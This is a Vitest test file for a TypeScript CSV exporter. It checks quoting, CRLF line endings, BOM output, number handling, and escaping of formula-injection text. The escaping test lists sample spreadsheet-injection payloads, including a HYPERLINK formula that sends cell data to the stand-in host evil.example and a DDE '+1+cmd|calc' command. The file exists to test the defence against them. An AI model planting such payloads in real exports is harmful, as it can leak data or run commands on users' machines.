import { describe, expect, it } from 'vitest';
import { csvNumber, toCsv } from './csv.ts';
import { formatMetricCsv } from './format.ts';

describe('toCsv', () => {
  it('quotes text cells, writes numbers bare and ends every line with CRLF', () => {
    expect(
      toCsv([
        ['No.', '名称'],
        [1, 'A "quoted" name'],
        [2, null],
      ]),
    ).toBe('"No.","名称"\r\n1,"A ""quoted"" name"\r\n2,""\r\n');
  });

  it('starts with a BOM when asked', () => {
    expect(toCsv([['a']], { bom: true })).toBe('\uFEFF"a"\r\n');
  });

  it('prefixes with a quote every text that a spreadsheet would run as a formula', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+cmd|calc',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1',
      '\r=1',
    ];
    expect(toCsv(attacks.map((a) => [a]))).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"\r\n' +
        '"\'+1+cmd|calc"\r\n' +
        '"\'-2+3"\r\n' +
        '"\'@SUM(A1:A2)"\r\n' +
        '"\'\t=1"\r\n' +
        '"\'\r=1"\r\n',
    );
  });

  it('leaves text starting otherwise, and the lone dash of no value, as it is', () => {
    expect(toCsv([['はかた薬局 天神店', ' =1', '-', "'quoted"]])).toBe(
      '"はかた薬局 天神店"," =1","-","\'quoted"\r\n',
    );
  });

  it('keeps numbers numbers: negative numbers and numbers written as text stay bare', () => {
    expect(
      toCsv([[-1234, -12.5, csvNumber('-1234'), csvNumber('-12.5'), formatMetricCsv(-3.25, '%')]]),
    ).toBe('-1234,-12.5,-1234,-12.5,-3.3\r\n');
    expect(toCsv([[formatMetricCsv(null, '円'), Number.NaN]])).toBe('"",""\r\n');
  });

  it('treats a number text that is no plain number as text', () => {
    expect(toCsv([[csvNumber('=1+1'), csvNumber('1,234')]])).toBe('"\'=1+1","1,234"\r\n');
  });
});
